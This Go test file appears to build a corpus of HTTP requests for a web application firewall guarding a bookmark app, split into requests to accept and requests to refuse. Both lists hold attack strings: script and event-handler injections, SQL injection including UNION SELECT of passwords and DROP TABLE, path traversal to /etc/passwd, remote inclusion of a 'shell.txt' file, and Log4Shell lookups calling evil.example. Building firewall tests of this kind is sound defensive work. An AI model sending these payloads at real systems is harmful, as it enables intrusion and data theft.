package firewalltest

import (
	"encoding/json"
	"strings"
)

// sent is a request of the corpus.
type sent struct {
	name, method, url string
	headers           []string
	body              string
}

func read(name, url string, headers ...string) sent { return sent{name, "GET", url, headers, ""} }

func write(name, url, body string, headers ...string) sent {
	return sent{name, "POST", url, headers, body}
}

func saved(name, title, address string) sent {
	body, _ := json.Marshal(map[string]string{"title": title, "url": address})
	return write(name, "/api/bookmarks", string(body), "Content-Type: application/json")
}

// exports begin and look as those of browsers do, in short.
var exports = map[string]string{
	"Firefox": `<!DOCTYPE NETSCAPE-Bookmark-file-1>
<!-- This is an automatically generated file. -->
<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8">
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'none'; img-src data: *; object-src 'none'"></meta>
<TITLE>Bookmarks</TITLE><H1>Bookmarks Menu</H1>
<DL><p><DT><A HREF="https://example.org/" ADD_DATE="1700000000" ICON_URI="fake-favicon-uri:https://example.org/" ICON="data:image/png;base64,iVBORw0KGgo=" TAGS="a,b">x</A></DL>`,
	"Chrome": `<!DOCTYPE NETSCAPE-Bookmark-file-1>
<!-- This is an automatically generated file.
     It will be read and overwritten. DO NOT EDIT! -->
<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8">
<TITLE>Bookmarks</TITLE><H1>Bookmarks</H1>
<DL><p><DT><H3 ADD_DATE="1700000000" LAST_MODIFIED="0" PERSONAL_TOOLBAR_FOLDER="true">bar</H3>
<DL><p><DT><A HREF="javascript:(function(){document.location='https://example.org/?u='+encodeURIComponent(location.href)})()">save</A></DL><p></DL><p>`,
	"Safari": `<!DOCTYPE NETSCAPE-Bookmark-file-1>
<HTML><META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8"><Title>Bookmarks</Title><H1>Bookmarks</H1>
<DT><H3 FOLDED>Reading</H3><DL><p><DT><A HREF="http://192.168.0.1:8443/">nas</A></DL><p></HTML>`,
	"Edge": `<!DOCTYPE NETSCAPE-Bookmark-file-1>
<META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8">
<TITLE>Favorites</TITLE><H1>Favorites</H1>
<DL><p><DT><A HREF="https://example.org/?id=1%20UNION%20SELECT%20a%20FROM%20b--" ADD_DATE="1700000000">union select explained</A></DL><p>`,
	"JSON": `{"title":"","children":[{"title":"<script>alert(1)</script>","uri":"https://example.org/"},{"title":"' ` +
		`or 1=1 --","uri":"http://10.0.0.1/"}]}`,
	"CSV": "title,url\n\"=HYPERLINK(\"\"https://example.org\"\")\",https://example.org/\n\"'; DROP TABLE bookmarks; " +
		"--\",https://example.org/\n",
}

// taken is what a bookmark application must take.
func taken() []sent {
	all := []sent{
		read("a page", "/"),
		read("a list", "/bookmarks?tag=go&page=2"),
		read("a page of the router", "/bookmarks?_rsc=1a2b3", "RSC: 1"),
		read("a search", "/api/bookmarks?q=golang+generics"),
		read("a search in Japanese", "/api/bookmarks?q=%E6%96%99%E7%90%86"),
		read("a search for a name", "/api/bookmarks?q=O%27Reilly"),
		read("a search for C++", "/api/bookmarks?q=C%2B%2B"),
		read("a search for a laptop", "/api/bookmarks?q=select+a+laptop+from+a+list"),
		read("a search for an address", "/api/bookmarks?url=http%3A%2F%2F192.168.1.1%3A8080%2F"),
		read("a session", "/api/bookmarks",
			"Cookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_def; theme=dark"),
		read("a token", "/api/bookmarks", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"),
		write("signing in", "/api/auth/login",
			`{"email":"hanako@example.org","password":"correct horse battery staple"}`,
			"Content-Type: application/json"),
		write("a server action", "/login", `["$K1"]`, "Next-Action: 7f3a", "Content-Type: text/plain;charset=UTF-8"),
		write("a form", "/settings", "name=Hanako+Yamada&language=ja",
			"Content-Type: application/x-www-form-urlencoded"),
		saved("a title", "The Go Programming Language", "https://go.dev/"),
		saved("a title with a quote", "It's O'Reilly's \"best\"", "https://example.org/"),
		saved("a title with SQL", "' OR 1=1 -- what it does", "https://example.org/"),
		saved("a title with a statement", "SELECT * FROM users; DROP TABLE users;", "https://example.org/"),
		saved("a title with a script", "<script>alert(1)</script> explained", "https://example.org/"),
		saved("a title with an event", "<img src=x onerror=alert(1)>", "https://example.org/"),
		saved("a title with Log4Shell", "${jndi:ldap://evil.example/a} explained", "https://example.org/"),
		saved("a title with a command", "rm -rf / && cat /etc/passwd", "https://example.org/"),
		saved("a bookmarklet", "save", "javascript:(function(){alert(document.title)})()"),
		saved("an address of IPv4", "router", "http://192.168.1.1:8080/admin?x=1"),
		saved("an address of IPv6", "host", "http://[2001:db8::1]:3000/"),
		saved("the metadata service", "IMDS", "http://169.254.169.254/latest/meta-data/"),
		saved("dot segments", "up", "https://example.org/a/../../../../etc/passwd"),
		saved("a long URL", "long", "https://example.org/?q="+strings.Repeat("abc%20", 1500)),
		saved("a URL with SQL", "union", "https://example.org/?id=1%20UNION%20SELECT%20a%20FROM%20b--"),
	}
	for _, name := range []string{"Firefox", "Chrome", "Safari", "Edge"} {
		all = append(all,
			write("an export of "+name, "/api/bookmarks/import", exports[name], "Content-Type: text/html"),
			write("an export of "+name+" in a form", "/api/bookmarks/import",
				"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bookmarks.html\"\r\nContent-Type: "+
					"text/html\r\n\r\n"+exports[name]+"\r\n--x--\r\n",
				"Content-Type: multipart/form-data; boundary=x"))
	}
	return append(all,
		write("an export in JSON", "/api/bookmarks/import", exports["JSON"], "Content-Type: application/json"),
		write("an export in CSV", "/api/bookmarks/import", exports["CSV"], "Content-Type: text/csv"))
}

// refused is what it must refuse.
func refused() []sent {
	const form = "Content-Type: application/x-www-form-urlencoded"
	return []sent{
		read("a script in a query", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
		read("an event in a query", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
		read("an SVG in a query", "/search?q=%3Csvg%2Fonload%3Dalert(1)%3E"),
		read("a script address in a query", "/search?q=%3Ca%20href%3D%22javascript%3Aalert(1)%22%3Ex%3C%2Fa%3E"),
		read("a script in a cookie", "/", "Cookie: a=<script>alert(1)</script>"),
		read("a script in the path", "/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
		write("a script in a form", "/settings", "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E", form),
		write("a script in JSON", "/api/profile", `{"name":"<script>alert(1)</script>"}`,
			"Content-Type: application/json"),
		read("a true condition", "/api/users?id=1%27%20OR%20%271%27%3D%271"),
		read("a union", "/api/users?id=-1%20UNION%20ALL%20SELECT%20NULL%2Cpassword%20FROM%20users--"),
		read("a pause", "/api/users?id=1%3BSELECT%20pg_sleep(10)--"),
		read("a second statement", "/api/users?id=1%3B%20DROP%20TABLE%20users--"),
		read("SQL in a cookie", "/", "Cookie: id=1' OR '1'='1"),
		write("SQL in a form", "/settings", "name=1%27+OR+%271%27%3D%271", form),
		write("SQL at sign-in", "/api/auth/login", `{"email":"' OR '1'='1","password":"x"}`,
			"Content-Type: application/json"),
		read("a file of the machine", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
		read("a remote file", "/?page=http%3A%2F%2F203.0.113.9%2Fshell.txt"),
		read("Log4Shell in a header", "/", "X-Api-Version: ${jndi:ldap://evil.example/a}"),
		read("Log4Shell in a query", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
		write("a script in an import's query", "/api/bookmarks/import?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
			exports["Chrome"], "Content-Type: text/html"),
		write("an export elsewhere", "/api/profile", exports["Chrome"], "Content-Type: text/html"),
		write("SQL beside the bookmarks", "/api/bookmarks/x/notes", `{"text":"' OR '1'='1"}`,
			"Content-Type: application/json"),
	}
}
